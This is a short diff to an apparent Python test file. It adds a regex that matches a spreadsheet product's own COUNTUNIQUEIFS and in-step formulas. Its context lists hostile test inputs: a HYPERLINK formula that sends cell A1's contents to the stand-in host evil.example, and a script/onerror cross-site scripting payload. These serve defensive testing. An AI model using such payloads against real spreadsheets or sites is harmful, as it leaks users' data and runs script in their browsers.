@@ -14,7 +14,9 @@ from tests.world import World, wait_for
 
 _COUNT = r"COUNTUNIQUEIFS\(Brightsheet_Site;Brightsheet_Milestone;\$A\d+"
 _STATUS = r";Brightsheet_Status;[A-Z]+\$1"
-COUNTED = re.compile(rf'={_COUNT}(\)|{_STATUS}\)\+{_COUNT}{_STATUS}&":\*"\))')
+_IN_STEP = r'IF\(NOW\(\)-[A-Z]+1>\d+/1440;"Not in step since";"In step at"\)'
+COUNTED = re.compile(rf'={_COUNT}(\)|{_STATUS}\)\+{_COUNT}{_STATUS}&":\*"\))|={_IN_STEP}')
+"""The product's own formulas."""
 EVIL = [
     '=HYPERLINK("https://evil.example/?"&A1,"Sign in")',
     '<script>alert(1)</script><img src=x onerror="alert(1)">',
